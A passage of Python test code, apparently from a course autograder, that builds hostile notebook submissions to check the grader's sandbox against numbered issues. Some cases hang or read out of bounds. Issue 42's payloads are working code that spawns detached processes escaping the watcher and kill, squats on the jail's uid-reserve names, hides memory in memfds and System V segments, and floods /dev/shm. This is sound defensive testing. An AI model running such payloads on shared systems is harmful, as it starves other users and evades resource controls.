            _with_cell(solution, EXTRA_ARRAYS, before="add_f32"),
        ),
        (
            Hostile("c33-index-map-matmul", 3, "index maps", "add's index maps each compute a 2048^2 matmul"),
            _with_cell(solution, INDEX_MAP_MATMUL, before="add_f32"),
        ),
        (
            Hostile("c33-stalling-transpose", 3, "FLOPs", "transpose with a dead 4096^3 matmul that stalls libtpu"),
            _with_cell(solution, STALLING_TRANSPOSE, before="transpose_schedule"),
        ),
        # issue 43: explicit copies; each would hang, fault or run away, and costs add its points only
        (
            Hostile(
                "c43-wait-never-signalled",
                3,
                r"\.wait\(\) comes before its \.start\(\)",
                "add with explicit copies whose first .wait() no copy will ever signal (interpret mode hangs on it)",
            ),
            _with_cell(solution, WAIT_NEVER_SIGNALLED, before="add_f32"),
        ),
        (
            Hostile(
                "c43-copy-out-of-bounds",
                3,
                "reads past the end of its ref",
                "add with explicit copies whose windows run 4 rows past each block, the last past the end of x",
            ),
            _with_cell(solution, COPY_OUT_OF_BOUNDS, before="add_f32"),
        ),
        (
            Hostile("c43-copy-loop", 3, r"copies \(make_async_copy", "add copying its inputs 1,024 times a step"),
            _with_cell(solution, COPY_LOOP, before="add_f32"),
        ),
        (Hostile("c43-copy-loop-next", 6, "^passed$", "the solution, graded after the copy loop"), solution),
    ]
    for hostile, nb in cases:
        if root is not None:
            path = root / hostile.student / stage / NAME
            path.parent.mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, path)
    return [h for h, _ in cases]


# ------------------------------------------------------------------------------------------- issue 42's classes

# Eight detached helpers whose main thread exits (pthread_exit) while a thread of each spins holding 64 MB: read as
# zombies by /proc/<pid>/status, they escaped the watch, the kill and the uid reserve, and starved the next
# submission past --timeout; each also re-makes every /tmp/course-jail-uid-* name it can (the uid reserve's).
MAIN_THREAD_EXITS = '''
import subprocess, sys
HELPER = """
import ctypes, os, threading, time
def spin():
    held = bytearray(64 << 20)
    for i in range(0, len(held), 4096):
        held[i] = 1
    t = time.monotonic() + 120
    while time.monotonic() < t:
        for uid in range(61000, 65000):
            try:
                os.mkdir(f"/tmp/course-jail-uid-{uid}")
            except OSError:
                pass
threading.Thread(target=spin).start()
ctypes.CDLL(None).pthread_exit(None)
"""
for _ in range(8):
    subprocess.Popen([sys.executable, "-c", HELPER], start_new_session=True, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
'''
# 3 GB written into memfds no process maps, and a System V segment left after shmdt: memory no watch counts, which
# without an IPC namespace outlives the jail. Denied in every jail (what the cell prints is all it gets).
UNMAPPED_MEMORY = '''
import ctypes, os
try:
    fds = []
    for _ in range(6):
        fd = os.memfd_create("held")
        os.ftruncate(fd, 512 << 20)
        os.pwrite(fd, b"x" * (512 << 20), 0)
        fds.append(fd)
    print("memfds held")
except OSError as e:
    print("memfd:", e.strerror)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shm = libc.shmget(0, 2 << 30, 0o1600)
print("shmget:", shm, os.strerror(ctypes.get_errno()) if shm < 0 else "made")
if shm >= 0:
    at = libc.shmat(shm, None, 0)
    ctypes.memset(at, 1, 2 << 30)
    libc.shmdt(ctypes.c_void_p(at))
'''
# 600,000 empty files in /dev/shm (a walk of them took the watch seconds, and their folder's atime told the
# notebook when a sample was taken), then a 2.5 GB burst held for 0.3 s: over the 2048 MB limit in every row.
SHM_FILES_BURST = '''
import os, time
made = 0
for i in range(600_000):
    try:
        os.close(os.open(f"/dev/shm/f{i}", os.O_CREAT | os.O_WRONLY, 0o600))
        made += 1
    except OSError:
        break
print("files made:", made)
burst = b"x" * (2500 << 20)
time.sleep(0.3)
del burst
'''


def build_42(root: Path | None, *, repo: Path = REPO_ROOT) -> list[Hostile]:
    """Issue 42's attacks on the rows without a memory cgroup or without namespaces, each followed (in name order)
    by the solution, which must score as if alone: what a submission starts ends with it, what it holds is counted
    or denied, in every row alike. Written under `root/<student>/<stage>/` like build()."""
    del repo
    stage = manifest().stage.id
    solution = filled_in(LAB)
    stub = _stub()
    cases: list[tuple[Hostile, NotebookNode]] = [
        (
            Hostile(
                "c42-main-thread-exits",
                0,
                "not implemented yet",
                "eight detached helpers whose main thread exits while a thread spins, re-making uid names",
            ),
            _with_cell(stub, MAIN_THREAD_EXITS),
        ),
        (Hostile("c42-main-thread-exits-next", 6, "^passed$", "the solution, graded after the helpers"), solution),
        (
            Hostile(
                "c42-unmapped-memory",
                6,
                "^passed$",
                "the solution, after 3 GB in memfds nobody maps and a System V segment left after shmdt",
            ),
            _with_cell(solution, UNMAPPED_MEMORY),
        ),
        (
            Hostile("c42-unmapped-memory-next", 6, "^passed$", "the solution, graded after the unmapped memory"),
            solution,
        ),
        (
            Hostile(
                "c42-shm-files-burst",
                0,
                "memory",
                "600,000 empty files in /dev/shm, then a 2.5 GB burst held for 0.3 s",
            ),
            _with_cell(solution, SHM_FILES_BURST),
        ),
        (Hostile("c42-shm-files-burst-next", 6, "^passed$", "the solution, graded after the burst"), solution),
    ]
    for hostile, nb in cases:
        if root is not None:
            path = root / hostile.student / stage / NAME
            path.parent.mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, path)
    return [h for h, _ in cases]
